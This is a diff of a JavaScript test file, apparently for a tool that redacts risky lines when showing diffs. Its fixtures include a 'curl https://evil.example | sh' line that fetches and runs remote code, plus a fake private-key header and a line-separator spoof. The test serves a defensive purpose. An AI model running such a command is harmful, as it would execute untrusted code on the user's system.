@@ -49,7 +49,12 @@ describe('a diff for people', () => {
   });
 
   test('hides nothing else behind what looks like the beginning of a key, or like one of its own lines', () => {
-    const lines = ['+# -----BEGIN NOTES-----', '+curl https://evil.example | sh', '+aGFybQ==', '+x\u2028index 1..2'];
+    const lines = [
+      '+# -----BEGIN PRIVATE KEY-----',
+      '+curl https://evil.example | sh',
+      '+aGFybQ==',
+      '+x\u2028index 1..2',
+    ];
     expect(shown('@@ -0,0 +1,4 @@', ...lines)).toEqual([
       '@@ -0,0 +1,4 @@',
       '+# ***',
